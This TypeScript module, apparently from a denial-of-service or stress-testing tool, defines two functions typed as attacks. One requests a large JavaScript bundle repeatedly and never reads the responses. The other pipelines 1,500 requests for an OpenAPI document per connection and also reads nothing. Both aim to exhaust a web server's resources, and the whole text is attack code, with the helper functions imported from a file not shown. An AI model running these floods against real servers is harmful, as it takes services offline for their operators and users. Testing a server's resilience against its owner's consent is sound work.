import { type Attack, answeredRequest, silentReaders } from './target.ts';

/** Asks for as many large pages as a connection may have under way, and reads nothing. */
export const unreadAnswers: Attack = async (target, signal, connections) => {
  const requests = (await answeredRequest(target, '/docs/swagger-ui-bundle.js')).repeat(4);
  return silentReaders(target, signal, connections, Buffer.from(requests), false);
};

/** Asks 1,500 times for a document or page at once, over and over, and reads nothing. */
export const pipelining: Attack = async (target, signal, connections) => {
  const requests = (await answeredRequest(target, '/openapi.json')).repeat(1_500);
  return silentReaders(target, signal, connections, Buffer.from(requests), true);
};
